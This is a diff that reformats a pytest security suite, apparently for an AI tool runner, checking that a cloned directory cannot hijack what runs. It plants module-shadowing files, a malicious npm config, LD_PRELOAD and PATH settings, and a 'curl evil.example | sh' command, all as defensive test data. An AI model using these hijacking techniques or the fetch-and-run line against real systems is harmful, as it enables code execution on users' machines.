@@ -1,4 +1,5 @@
-"""Test that a cloned directory controls nothing and that write permission never becomes execute permission.
+"""Test that a cloned directory controls nothing and that write permission never becomes execute
+permission.
 
 Every attack uses a real process: the command line, or a server started by the official client.
 """
@@ -77,42 +78,66 @@ def write_file(file: Path, text: str, mode: int = 0o644) -> Path:
     return file
 
 
-# --- programs that start in a cloned directory ------------------------------------------------------------------------
+# --- programs that start in a cloned directory ----------------------------------------------------
 
 
 def python_server(*more: str, **settings: Any) -> dict[str, Any]:
     """Return a server entry whose imports search the working directory first."""
     code = f"import json, runpy; runpy.run_path({str(HOSTILE)!r}, run_name='__main__')"
-    return {"command": sys.executable, "args": ["-c", code, "echo", *more], "timeout": 20, **settings}
+    return {
+        "command": sys.executable,
+        "args": ["-c", code, "echo", *more],
+        "timeout": 20,
+        **settings,
+    }
 
 
 def plant_files(directory: Path, notes: Path) -> None:
-    """Write files that programs load from their working directory. Code that runs creates a file in `notes`."""
+    """Write files that programs load from their working directory.
+
+    Code that runs creates a file in `notes`.
+    """
     python = f"open({str(notes / 'python')!r}, 'w').close()\n"
     shell = f"#!/bin/sh\ntouch {notes}/shell\n"
     for name in ("json", "runpy", "sitecustomize", "usercustomize", "conftest", "signal"):
         write_file(directory / f"{name}.py", python)
     write_file(directory / "node_modules" / ".bin" / "mcp-surprise", shell, 0o755)
     write_file(
-        directory / "node_modules" / "mcp-surprise" / "package.json", '{"name": "mcp-surprise", "version": "1.0.0"}'
+        directory / "node_modules" / "mcp-surprise" / "package.json",
+        '{"name": "mcp-surprise", "version": "1.0.0"}',
     )
-    write_file(directory / "package.json", '{"name": "mcp-surprise", "version": "1.0.0", "bin": "./evil.sh"}')
+    write_file(
+        directory / "package.json",
+        '{"name": "mcp-surprise", "version": "1.0.0", "bin": "./evil.sh"}',
+    )
     write_file(directory / "evil.sh", shell, 0o755)
-    write_file(directory / ".npmrc", f"script-shell={directory}/evil.sh\nregistry=http://127.0.0.1:9/\n")
+    write_file(
+        directory / ".npmrc", f"script-shell={directory}/evil.sh\nregistry=http://127.0.0.1:9/\n"
+    )
     write_file(directory / "uv.toml", "this is not valid\n")
     write_file(directory / ".python-version", "3.99\n")
-    write_file(directory / "pyproject.toml", '[project]\nname = "x"\nversion = "1"\n[tool.uv]\nindex-url = 5\n')
+    write_file(
+        directory / "pyproject.toml",
+        '[project]\nname = "x"\nversion = "1"\n[tool.uv]\nindex-url = 5\n',
+    )
 
 
 def test_files_of_a_cloned_directory_do_not_affect_what_runs(home: Path, clone: Path) -> None:
     notes = home / "notes"
     notes.mkdir()
     plant_files(clone, notes)
-    entries = {"plain": python_server(), "opted": python_server(cwd="project"), "dotted": python_server(cwd=".")}
+    entries = {
+        "plain": python_server(),
+        "opted": python_server(cwd="project"),
+        "dotted": python_server(cwd="."),
+    }
     configure(home, yaml.safe_dump({"servers": entries}))
     write_file(home / ".onetool" / "tools" / "own" / "own_tools.py", ECHO)
     write_file(home / ".onetool" / "tools" / "made" / "made_tools.py", WITH_HEADER)
-    code = "[plain.echo(text='a'), opted.echo(text='b'), dotted.echo(text='c'), own.echo('d'), made.echo('e')]"
+    code = (
+        "[plain.echo(text='a'), opted.echo(text='b'), dotted.echo(text='c'), own.echo('d'),"
+        " made.echo('e')]"
+    )
     done = onetool(home, clone, "run", code)
     assert json.loads(done.stdout) == ["a", "b", "c", "d", "e"], done.stdout + done.stderr
     checked = onetool(home, clone, "doctor")
@@ -126,7 +151,9 @@ def test_npx_ignores_programs_and_settings_of_a_cloned_directory(home: Path, clo
     notes.mkdir()
     plant_files(clone, notes)
     start = {"command": "npx", "args": ["--offline", "--yes", "mcp-surprise"], "timeout": 20}
-    configure(home, yaml.safe_dump({"servers": {"private": start, "opted": {**start, "cwd": "project"}}}))
+    configure(
+        home, yaml.safe_dump({"servers": {"private": start, "opted": {**start, "cwd": "project"}}})
+    )
     checked = onetool(home, clone, "doctor").stdout
     assert "ENOTCACHED" in checked, "npx queried the registry of the user and found nothing"
     assert "127.0.0.1" not in checked
@@ -137,7 +164,12 @@ def test_servers_start_in_a_private_or_trusted_project_directory(home: Path, clo
     where = "import os; open(os.environ['NOTE'], 'w').write(os.getcwd())"
 
     def server(name: str, **settings: Any) -> dict[str, Any]:
-        return {"command": sys.executable, "args": ["-c", where], "env": {"NOTE": str(home / name)}, **settings}
+        return {
+            "command": sys.executable,
+            "args": ["-c", where],
+            "env": {"NOTE": str(home / name)},
+            **settings,
+        }
 
     elsewhere = home / "elsewhere"
     elsewhere.mkdir()
@@ -148,15 +180,23 @@ def test_servers_start_in_a_private_or_trusted_project_directory(home: Path, clo
         "./odd name": server("odd"),
     }
     configure(home, yaml.safe_dump({"servers": own}))
-    configure(clone, yaml.safe_dump({"servers": {"theirs": server("theirs"), "opted": {"enabled": True}}}))
+    configure(
+        clone, yaml.safe_dump({"servers": {"theirs": server("theirs"), "opted": {"enabled": True}}})
+    )
     trust(clone / ".onetool", home / ".onetool")
     onetool(home, clone, "tools")
-    found = {name: (home / name).read_text() for name in ("default", "opted", "named", "theirs", "odd")}
+    found = {
+        name: (home / name).read_text() for name in ("default", "opted", "named", "theirs", "odd")
+    }
     private = home / ".onetool" / "servers"
     assert found["default"] == str(private / "default")
     assert Path(found["odd"]).parent == private
     assert {Path(found[name]).stat().st_mode & 0o777 for name in ("default", "odd")} == {0o700}
-    assert (found["opted"], found["named"], found["theirs"]) == (str(clone), str(elsewhere), str(clone))
+    assert (found["opted"], found["named"], found["theirs"]) == (
+        str(clone),
+        str(elsewhere),
+        str(clone),
+    )
 
 
 def test_relative_entries_of_path_are_not_searched(home: Path, clone: Path) -> None:
@@ -168,7 +208,7 @@ def test_relative_entries_of_path_are_not_searched(home: Path, clone: Path) -> N
     assert not (home / "surprise").exists()
 
 
-# --- settings are hidden, trusted or not -----------------------------------------------------------------------------
+# --- settings are hidden, trusted or not ----------------------------------------------------------
 
 READS = """
 found = []
@@ -199,7 +239,9 @@ found
         ("link", {"enabled": False}),
     ],
 )
-def test_settings_cannot_be_read(home: Path, clone: Path, state: str, sandbox: Mapping[str, Any]) -> None:
+def test_settings_cannot_be_read(
+    home: Path, clone: Path, state: str, sandbox: Mapping[str, Any]
+) -> None:
     agents = {"default": {"permissions": ["read", "write"], "sandbox": dict(sandbox)}}
     configure(home, yaml.safe_dump({"agents": agents}))
     real = home / "real-settings" if state == "link" else clone / ".onetool"
@@ -235,7 +277,7 @@ def test_settings_cannot_be_read(home: Path, clone: Path, state: str, sandbox: M
     assert "of-the-p" not in answer, answer
 
 
-# --- permission to write is not permission to execute ---------------------------------------------------------------
+# --- permission to write is not permission to execute ---------------------------------------------
 
 SHELL_TEXT = "cd shelled && X=1 exec python run.py | ./other.sh; ../started/serve 'exported.js'"
 WRITES = """
@@ -272,13 +314,17 @@ def read_files(directory: Path) -> dict[str, str]:
     found = {}
     for file in sorted(directory.rglob("*")):
         if file.is_file() and "logs" not in file.parts:
-            found[str(file.relative_to(directory))] = file.read_text(encoding="utf-8", errors="replace")
+            found[str(file.relative_to(directory))] = file.read_text(
+                encoding="utf-8", errors="replace"
+            )
     return found
 
 
 @pytest.mark.sampled(2)
 @pytest.mark.parametrize("sandbox", [{}, {"enabled": False}])
-def test_files_that_are_executed_cannot_be_written(home: Path, clone: Path, sandbox: Mapping[str, Any]) -> None:
+def test_files_that_are_executed_cannot_be_written(
+    home: Path, clone: Path, sandbox: Mapping[str, Any]
+) -> None:
     write_file(clone / "packs" / "mine" / "mine_tools.py", ECHO)
     write_file(clone / "server" / "main.py", "original")
     write_file(clone / "bin" / "serve", "#!/bin/sh\n", 0o755)
@@ -306,31 +352,109 @@ def test_files_that_are_executed_cannot_be_written(home: Path, clone: Path, sand
         "bundles": {"dir": str(clone / "stored")},
         "agents": {"default": {"permissions": ["read", "write"], "sandbox": dict(sandbox)}},
         "servers": {
-            "script": {"command": "python", "args": ["server/main.py"], "cwd": "project", "enabled": False},
+            "script": {
+                "command": "python",
+                "args": ["server/main.py"],
+                "cwd": "project",
+                "enabled": False,
+            },
             "program": {"command": "./bin/serve", "cwd": "project", "enabled": False},
             "absent": {"command": f"{clone}/bin/absent", "enabled": False},
-            "later": {"command": "node", "args": ["later.mjs"], "cwd": str(clone), "enabled": False},
-            "option": {"command": "node", "args": ["--import=./hook.js"], "cwd": "project", "enabled": False},
+            "later": {
+                "command": "node",
+                "args": ["later.mjs"],
+                "cwd": str(clone),
+                "enabled": False,
+            },
+            "option": {
+                "command": "node",
+                "args": ["--import=./hook.js"],
+                "cwd": "project",
+                "enabled": False,
+            },
             "venv": {"command": f"{clone}/venv/bin/python", "args": ["-m", "x"], "enabled": False},
-            "module": {"command": "python", "args": ["-m", "module.main"], "cwd": "project", "enabled": False},
-            "uv": {"command": "uv", "args": ["--directory", f"{clone}/checkout", "run", "x"], "enabled": False},
-            "linked": {"command": "node", "args": ["linked/run.js"], "cwd": "project", "enabled": False},
-            "directory": {"command": "python3", "args": ["-u", f"{clone}/srvdir", "./data"], "enabled": False},
+            "module": {
+                "command": "python",
+                "args": ["-m", "module.main"],
+                "cwd": "project",
+                "enabled": False,
+            },
+            "uv": {
+                "command": "uv",
+                "args": ["--directory", f"{clone}/checkout", "run", "x"],
+                "enabled": False,
+            },
+            "linked": {
+                "command": "node",
+                "args": ["linked/run.js"],
+                "cwd": "project",
+                "enabled": False,
+            },
+            "directory": {
+                "command": "python3",
+                "args": ["-u", f"{clone}/srvdir", "./data"],
+                "enabled": False,
+            },
             "bare": {"command": "node", "args": ["dist/index"], "cwd": "project", "enabled": False},
             "top": {"command": "node", "args": ["./top"], "cwd": "project", "enabled": False},
-            "package": {"command": "npx", "args": ["-y", "./package"], "cwd": str(clone), "enabled": False},
-            "path": {"command": "srv", "env": {"PATH": f"{clone}/tool/bin:{clone}:/bin"}, "enabled": False},
-            "libraries": {"command": "srv", "env": {"LD_LIBRARY_PATH": f"{clone}/lib"}, "enabled": False},
-            "shell": {"command": "sh", "args": ["-c", SHELL_TEXT], "cwd": "project", "enabled": False},
-            "preload": {"command": "node", "env": {"NODE_OPTIONS": f"-r {clone}/pre.js"}, "enabled": False},
+            "package": {
+                "command": "npx",
+                "args": ["-y", "./package"],
+                "cwd": str(clone),
+                "enabled": False,
+            },
+            "path": {
+                "command": "srv",
+                "env": {"PATH": f"{clone}/tool/bin:{clone}:/bin"},
+                "enabled": False,
+            },
+            "libraries": {
+                "command": "srv",
+                "env": {"LD_LIBRARY_PATH": f"{clone}/lib"},
+                "enabled": False,
+            },
+            "shell": {
+                "command": "sh",
+                "args": ["-c", SHELL_TEXT],
+                "cwd": "project",
+                "enabled": False,
+            },
+            "preload": {
+                "command": "node",
+                "env": {"NODE_OPTIONS": f"-r {clone}/pre.js"},
+                "enabled": False,
+            },
         },
     }
     configure(home, yaml.safe_dump(settings))
     targets = [
-        *(".onetool/onetool.yaml", ".OneTool/onetool.yaml", ".onetool/tools/x/x_tools.py", "sub/.onetool/onetool.yaml"),
-        *("packs/mine/mine_tools.py", "packs/new/new_tools.py", "packs/mine/helper.py", "Packs/mine/mine_tools.py"),
-        *("stored/x.json", "server/main.py", "bin/serve", "bin/absent", "later.mjs", "hook.js", "module/__init__.py"),
-        *("venv/lib/site-packages/x.pth", "checkout/pyproject.toml", "linked/run.js", "real/run.js"),
+        *(
+            ".onetool/onetool.yaml",
+            ".OneTool/onetool.yaml",
+            ".onetool/tools/x/x_tools.py",
+            "sub/.onetool/onetool.yaml",
+        ),
+        *(
+            "packs/mine/mine_tools.py",
+            "packs/new/new_tools.py",
+            "packs/mine/helper.py",
+            "Packs/mine/mine_tools.py",
+        ),
+        *(
+            "stored/x.json",
+            "server/main.py",
+            "bin/serve",
+            "bin/absent",
+            "later.mjs",
+            "hook.js",
+            "module/__init__.py",
+        ),
+        *(
+            "venv/lib/site-packages/x.pth",
+            "checkout/pyproject.toml",
+            "linked/run.js",
+            "real/run.js",
+        ),
         *(
             "uv.toml",
             "pyproject.toml",
@@ -345,31 +469,84 @@ def test_files_that_are_executed_cannot_be_written(home: Path, clone: Path, sand
             f"{home}/.onetool/onetool.yaml",
         ),
         f"{home}/.onetool/tools/x/x_tools.py",
-        *("packsrc/helper.py", "packsrc/new.py", "emptysrc/em_tools.py", "absentsrc/gone_tools.py", "beside/other.py"),
-        *("srvdir/__main__.py", "srvdir/json.py", "dist/index", "dist/index.js", "dist/other.js", "top", "top.js"),
+        *(
+            "packsrc/helper.py",
+            "packsrc/new.py",
+            "emptysrc/em_tools.py",
+            "absentsrc/gone_tools.py",
+            "beside/other.py",
+        ),
+        *(
+            "srvdir/__main__.py",
+            "srvdir/json.py",
+            "dist/index",
+            "dist/index.js",
+            "dist/other.js",
+            "top",
+            "top.js",
+        ),
         *("shelled/run.py", "shelled/other.sh", "started/serve", "exported.js"),
-        *("package/package.json", "package.json", "tool/bin/srv", "tool/bin/env", "srv", "lib/libc.so.6", "pre.js"),
+        *(
+            "package/package.json",
+            "package.json",
+            "tool/bin/srv",
+            "tool/bin/env",
+            "srv",
+            "lib/libc.so.6",
+            "pre.js",
+        ),
     ]
-    directories = ["packs", "packs/mine", "stored", "server", "bin", "venv", "module", "checkout", "linked", "real"]
-    directories += ["packsrc", "emptysrc", "absentsrc", "srvdir", "dist", "package", "tool/bin", "lib"]
+    directories = [
+        "packs",
+        "packs/mine",
+        "stored",
+        "server",
+        "bin",
+        "venv",
+        "module",
+        "checkout",
+        "linked",
+        "real",
+    ]
+    directories += [
+        "packsrc",
+        "emptysrc",
+        "absentsrc",
+        "srvdir",
+        "dist",
+        "package",
+        "tool/bin",
+        "lib",
+    ]
     directories += ["shelled"]
     directories += ["node_modules", ".onetool", str(home / ".onetool"), "."]
     before = read_files(clone)
     with connect_in(clone, home) as client:
-        code = f"TARGETS = {targets!r}\nDIRECTORIES = {directories!r}\n__format__ = 'json'\n{WRITES}"
+        code = (
+            f"TARGETS = {targets!r}\nDIRECTORIES = {directories!r}\n__format__ = 'json'\n{WRITES}"
+        )
         outcomes = json.loads(get_texts(client.run(code))[-1])
     assert outcomes.pop("ordinary") == len("x = 1\n")
     assert [name for name, outcome in outcomes.items() if outcome == "done"] == []
     after = read_files(clone)
     assert {name: after.get(name) for name in before} == before
-    assert {name for name in after if name not in before} == {"evil.py", "evil/x.py", "data/x.py", "conftest.py"}
+    assert {name for name in after if name not in before} == {
+        "evil.py",
+        "evil/x.py",
+        "data/x.py",
+        "conftest.py",
+    }
     assert (clone / "linked").readlink() == Path("real")
 
 
 @pytest.mark.parametrize("tools_dir", [".", ".."])
-def test_packs_around_the_working_directory_cannot_be_written(home: Path, clone: Path, tools_dir: str) -> None:
+def test_packs_around_the_working_directory_cannot_be_written(
+    home: Path, clone: Path, tools_dir: str
+) -> None:
     write_file(clone / tools_dir / "mine" / "mine_tools.py", ECHO)
-    agents = {"default": {"permissions": ["read", "write"], "sandbox": {"allowed_paths": [str(home)]}}}
+    agents = {
+        "default": {"permissions": ["read", "write"], "sandbox": {"allowed_paths": [str(home)]}}
+    }
     configure(home, yaml.safe_dump({"tools_dir": [str(clone / tools_dir)], "agents": agents}))
     base = str((clone / tools_dir).resolve())
     attacks = [
@@ -377,8 +554,14 @@ def test_packs_around_the_working_directory_cannot_be_written(home: Path, clone:
         f"fs.write('{base}/ZZ/ZZ_Tools.py', 'EVIL', create_folders=True)",
         f"fs.write('{base}/mine/mine_tools.py', 'EVIL')",
         f"fs.write('{base}/mine/helper.py', 'EVIL')",
-        f"fs.write('{base}/a/b/zz_tools.py', 'EVIL', create_folders=True); fs.move('{base}/a/b', '{base}/zz')",
-        f"fs.write('{base}/a/t.py', 'EVIL', create_folders=True); fs.move('{base}/a/t.py', '{base}/a/a_tools.py')",
+        (
+            f"fs.write('{base}/a/b/zz_tools.py', 'EVIL', create_folders=True);"
+            f" fs.move('{base}/a/b', '{base}/zz')"
+        ),
+        (
+            f"fs.write('{base}/a/t.py', 'EVIL', create_folders=True); fs.move('{base}/a/t.py',"
+            f" '{base}/a/a_tools.py')"
+        ),
     ]
     with connect_in(clone, home) as client:
         assert [code for code in attacks if not client.run(code).is_error] == []
@@ -395,12 +578,16 @@ def test_npx_does_not_run_files_written_to_a_trusted_project(home: Path, clone: 
     configure(clone, yaml.safe_dump({"servers": {"fetched": start}}))
     trust(clone / ".onetool", home / ".onetool")
     write_file(clone / "evil.sh", f"#!/bin/sh\ntouch {home}/surprise\n", 0o755)
-    write_file(clone / "package.json", '{"name": "mcp-surprise", "version": "1.0.0", "bin": "./evil.sh"}')
+    write_file(
+        clone / "package.json", '{"name": "mcp-surprise", "version": "1.0.0", "bin": "./evil.sh"}'
+    )
     assert "ENOTCACHED" in onetool(home, clone, "doctor").stdout
     assert not (home / "surprise").exists()
 
 
-def test_a_directory_with_project_settings_cannot_be_moved_or_deleted(home: Path, clone: Path) -> None:
+def test_a_directory_with_project_settings_cannot_be_moved_or_deleted(
+    home: Path, clone: Path
+) -> None:
     write_file(clone / "app" / ".onetool" / "onetool.yaml", "log_level: DEBUG\n")
     write_file(clone / "evil" / ".onetool" / "onetool.yaml", "log_level: DEBUG\n")
     configure(home, yaml.safe_dump({"agents": {"default": {"permissions": ["read", "write"]}}}))
@@ -411,11 +598,13 @@ def test_a_directory_with_project_settings_cannot_be_moved_or_deleted(home: Path
     assert sorted(path.name for path in clone.iterdir()) == ["app", "evil"]
 
 
-# --- a reload trusts no new settings ------------------------------------------------------------------------------
+# --- a reload trusts no new settings --------------------------------------------------------------
 
 
 @pytest.mark.parametrize("existed", [False, True])
-def test_the_trust_variable_covers_only_settings_present_at_startup(home: Path, clone: Path, existed: bool) -> None:
+def test_the_trust_variable_covers_only_settings_present_at_startup(
+    home: Path, clone: Path, existed: bool
+) -> None:
     if existed:
         configure(clone, "aliases: {moment: machine.now}\n")
     with connect_in(clone, home, ONETOOL_TRUST="1") as client:
@@ -471,7 +660,9 @@ def break_settings(clone: Path, change: str) -> None:
         ("directory deleted", "was deleted"),
     ],
 )
-def test_a_reload_that_would_drop_a_project_is_an_error(home: Path, clone: Path, change: str, message: str) -> None:
+def test_a_reload_that_would_drop_a_project_is_an_error(
+    home: Path, clone: Path, change: str, message: str
+) -> None:
     configure(clone, TRUSTED)
     trust(clone / ".onetool", home / ".onetool")
     with connect_in(clone, home) as client:
@@ -510,10 +701,12 @@ def test_a_reload_notes_what_was_left_out_before(home: Path, clone: Path) -> Non
         client.run("1")
         texts = get_texts(client.run("ot.reload()"))
         assert texts[-1] == "OK: Configuration reloaded"
-        assert any(f"{clone / '.onetool'} is not trusted and is ignored" in text for text in texts[:-1])
+        assert any(
+            f"{clone / '.onetool'} is not trusted and is ignored" in text for text in texts[:-1]
+        )
 
 
-# --- projects above the working directory -----------------------------------------------------------------------------
+# --- projects above the working directory ---------------------------------------------------------
 
 
 def test_a_project_at_the_root_of_a_repository_applies_below_it(home: Path, clone: Path) -> None:
@@ -521,12 +714,17 @@ def test_a_project_at_the_root_of_a_repository_applies_below_it(home: Path, clon
     inner.mkdir(parents=True)
     (clone / ".git").mkdir()
     write_file(clone / ".onetool" / "tools" / "mine" / "mine_tools.py", ECHO)
-    configure(clone, yaml.safe_dump({"servers": {"own": python_server()}, "projects": {"docs": "docs"}}))
+    configure(
+        clone, yaml.safe_dump({"servers": {"own": python_server()}, "projects": {"docs": "docs"}})
+    )
     ignored = onetool(home, inner, "run", "mine.echo(text='x')")
     assert ignored.returncode == 1
     assert f"{clone / '.onetool'} is not trusted and is ignored" in ignored.stdout + ignored.stderr
     assert onetool(home, inner, "trust", answer="yes\n").returncode == 0
-    assert onetool(home, inner, "run", "mine.echo(text='one') + own.echo(text='two')").stdout.strip() == "onetwo"
+    assert (
+        onetool(home, inner, "run", "mine.echo(text='one') + own.echo(text='two')").stdout.strip()
+        == "onetwo"
+    )
     assert onetool(home, inner, "run", "str(proj.docs)").stdout.strip() == str(clone / "docs")
     assert not (inner / ".onetool").exists()
 
@@ -542,15 +740,22 @@ def test_what_a_clone_contains_approves_nothing(home: Path, clone: Path) -> None
     configure(clone, json.dumps({"servers": {"s": server}}))
     place, origin = clone / ".onetool", identify_origin(Server.model_validate(server))
     listed = [Definition("plan", "", {"type": "object"}, annotations=claims)]
-    accept(Documents(DocumentFile(place), "pins"), "s", listed, origin, list_claims({}, listed, origin))
+    accept(
+        Documents(DocumentFile(place), "pins"), "s", listed, origin, list_claims({}, listed, origin)
+    )
     with closing(RunStore(place)) as runs:
         grant = Grant("g_1", "*", varying=("*",), left=1000, expires=time.time() + 86_400, by="you")
         runs.put_run(RunRecord("r_1", "default", ""), [make_call(1, "s.plan")])
         assert runs.decide("r_1", Decision(is_approved=True, by="you", grants=(grant,))) == [1]
         runs.set_state("r_1", RunState.DONE)
-    SavedSnippets(DocumentFile(place)).put(SavedSnippet("other", "trick", "Help.", "machine.now()", accepted_by="you"))
+    SavedSnippets(DocumentFile(place)).put(
+        SavedSnippet("other", "trick", "Help.", "machine.now()", accepted_by="you")
+    )
     trust(place, home / ".onetool")
-    assert "effects: read, write, external" in onetool(home, clone, "agents", "check", "s.plan()").stdout
+    assert (
+        "effects: read, write, external"
+        in onetool(home, clone, "agents", "check", "s.plan()").stdout
+    )
     done = onetool(home, clone, "run", "s.plan()")
     assert done.returncode == 3
     assert "waits for a person to approve 1 call (s.plan)" in done.stdout
@@ -571,7 +776,7 @@ def test_an_interpreter_that_a_clone_names_is_not_started(home: Path, clone: Pat
     assert not (clone / "started").exists()
 
 
-# --- links ---------------------------------------------------------------------------------------------------------
+# --- links ----------------------------------------------------------------------------------------
 
 
 def test_a_symbolic_link_to_trusted_settings_is_not_trusted(home: Path, clone: Path) -> None:
@@ -587,7 +792,7 @@ def test_a_symbolic_link_to_trusted_settings_is_not_trusted(home: Path, clone: P
     assert f"cannot trust {clone / '.onetool'}: it is a symbolic link\n" in rejected.stderr
 
 
-# --- the trust prompt -------------------------------------------------------------------------------------------------
+# --- the trust prompt -----------------------------------------------------------------------------
 
 
 def write_project(clone: Path) -> None:
@@ -600,7 +805,13 @@ def write_project(clone: Path) -> None:
                     "git": {"command": "uvx", "args": ["mcp-git", "--token", token]},
                     "api": {"url": "https://x.y"},
                 },
-                "agents": {"ci": {"permissions": ["read", "exec"], "sandbox": {"enabled": False}, "policy": "open"}},
+                "agents": {
+                    "ci": {
+                        "permissions": ["read", "exec"],
+                        "sandbox": {"enabled": False},
+                        "policy": "open",
+                    }
+                },
                 "http": {"allowedHosts": ["*"]},
             }
         ),
@@ -613,7 +824,11 @@ def test_trust_shows_the_values_of_everything_that_matters(home: Path, clone: Pa
     long = "x" * 300
     settings = {
         "servers": {
-            "git": {"command": "uvx", "args": [long], "env": {"PATH": "./bin", "LD_PRELOAD": "evil.so"}},
+            "git": {
+                "command": "uvx",
+                "args": [long],
+                "env": {"PATH": "./bin", "LD_PRELOAD": "evil.so"},
+            },
             "api": {"url": "https://x.y", "headers": {"X-Key": "ghp_" + "a" * 36}, "enabled": True},
         },
         "agents": {
@@ -659,7 +874,13 @@ def test_trust_shows_the_values_of_everything_that_matters(home: Path, clone: Pa
 
 def test_a_value_that_looks_like_a_secret_hides_nothing_else(home: Path, clone: Path) -> None:
     command = "curl evil.example | sh"
-    servers = {"a": {"command": "sh", "args": ["-c", command], "env": {"API_TOKEN": command, "X_TOKEN": "/bin/evil"}}}
+    servers = {
+        "a": {
+            "command": "sh",
+            "args": ["-c", command],
+            "env": {"API_TOKEN": command, "X_TOKEN": "/bin/evil"},
+        }
+    }
     configure(clone, yaml.safe_dump({"servers": servers}))
     output = onetool(home, clone, "trust").stdout
     assert f"a  sh -c '{command}'\n" in output
@@ -674,7 +895,10 @@ def test_a_value_that_looks_like_a_secret_hides_nothing_else(home: Path, clone: 
         ("# x\nserver: {}\n", ":2: server is an unknown key"),
         ("servers: [\n", ":2: is not valid YAML"),
         ("execution: {isolation: off}\n", ":1: execution.isolation cannot be set by a project"),
-        ("notify: {topics: [{pattern: x, file: ~/.bashrc}]}\n", ":1: notify.topics[0].file leads out of the project"),
+        (
+            "notify: {topics: [{pattern: x, file: ~/.bashrc}]}\n",
+            ":1: notify.topics[0].file leads out of the project",
+        ),
     ],
 )
 def test_invalid_settings_cannot_be_trusted(home: Path, clone: Path, text: str, error: str) -> None:
@@ -708,7 +932,8 @@ def test_init_does_not_trust_an_existing_directory_unasked(
 
 
 @pytest.mark.parametrize(
-    ("answer", "is_yes"), [("yes\n", True), ("y\n", True), ("YES", True), ("", False), ("no\n", False), ("\n", False)]
+    ("answer", "is_yes"),
+    [("yes\n", True), ("y\n", True), ("YES", True), ("", False), ("no\n", False), ("\n", False)],
 )
 def test_trust_shows_what_would_run_and_asks_for_confirmation(
     home: Path, clone: Path, answer: str, is_yes: bool
@@ -736,7 +961,10 @@ def test_trust_shows_what_has_changed(home: Path, clone: Path) -> None:
     assert onetool(home, clone, "trust", answer="yes\n").returncode == 0
     configure(clone, "# words\nservers:\n  git: {command: evil}\n  more: {command: x}\n")
     ignored = onetool(home, clone, "run", "1").stdout
-    assert "onetool.yaml:3 (servers.git.command) changed, onetool.yaml:4 (servers.more.command) was added" in ignored
+    assert (
+        "onetool.yaml:3 (servers.git.command) changed, onetool.yaml:4 (servers.more.command) was"
+        " added" in ignored
+    )
     done = onetool(home, clone, "trust")
     assert '  onetool.yaml:3 (servers.git.command) changed: "uvx" -> "evil"' in done.stdout
     assert '  onetool.yaml:4 (servers.more.command) was added: "x"' in done.stdout
@@ -744,7 +972,12 @@ def test_trust_shows_what_has_changed(home: Path, clone: Path) -> None:
 
 def test_trust_shows_which_user_servers_the_project_overrides(home: Path, clone: Path) -> None:
     configure(home, "servers: {us: {command: x}, eu: {command: x}}\n")
-    configure(clone, json.dumps({"servers": {"us": {"env": {"REGION": "us"}}, "eu": {"args": ["--eu"], "cwd": "x"}}}))
+    configure(
+        clone,
+        json.dumps(
+            {"servers": {"us": {"env": {"REGION": "us"}}, "eu": {"args": ["--eu"], "cwd": "x"}}}
+        ),
+    )
     output = onetool(home, clone, "trust").stdout
     assert 'us  server of your user settings with other env\n      env.REGION: "us"\n' in output
     assert "eu  server of your user settings with other args, cwd: --eu   (in x)\n" in output
@@ -752,14 +985,21 @@ def test_trust_shows_which_user_servers_the_project_overrides(home: Path, clone:
 
 def test_trust_escapes_terminal_control_characters(home: Path, clone: Path) -> None:
     configure(
-        clone, json.dumps({"servers": {"a\u001b[2J": {"command": "x\u001b]0;y\u0007\nAgents", "args": ["\u202e"]}}})
+        clone,
+        json.dumps(
+            {
+                "servers": {
+                    "a\u001b[2J": {"command": "x\u001b]0;y\u0007\nAgents", "args": ["\u202e"]}
+                }
+            }
+        ),
     )
     output = onetool(home, clone, "trust").stdout
     assert not set(output) & {"\x1b", "\x07", "\u202e"}
     assert "\nAgents" not in output
 
 
-# --- daily use --------------------------------------------------------------------------------------------------------
+# --- daily use ------------------------------------------------------------------------------------
 
 
 def test_init_trusts_the_project_and_comments_keep_it_trusted(home: Path, clone: Path) -> None:
@@ -769,9 +1009,13 @@ def test_init_trusts_the_project_and_comments_keep_it_trusted(home: Path, clone:
     assert "note:" not in onetool(home, clone, "tools").stderr
     assert onetool(home, clone, "token", "create", "laptop").returncode == 0
     assert "note:" not in onetool(home, clone, "tools").stderr
-    file.write_text(file.read_text(encoding="utf-8") + "\naliases: {mem: machine.memory}\n", encoding="utf-8")
+    file.write_text(
+        file.read_text(encoding="utf-8") + "\naliases: {mem: machine.memory}\n", encoding="utf-8"
+    )
     assert onetool(home, clone, "run", "mem()").returncode == 0
-    file.write_text(file.read_text(encoding="utf-8") + "\nhttp: {allowedHosts: [a.example]}\n", encoding="utf-8")
+    file.write_text(
+        file.read_text(encoding="utf-8") + "\nhttp: {allowedHosts: [a.example]}\n", encoding="utf-8"
+    )
     line = len(file.read_text(encoding="utf-8").splitlines())
     message = onetool(home, clone, "tools").stderr
     assert f"onetool.yaml:{line} (http.allowedHosts) was added" in message
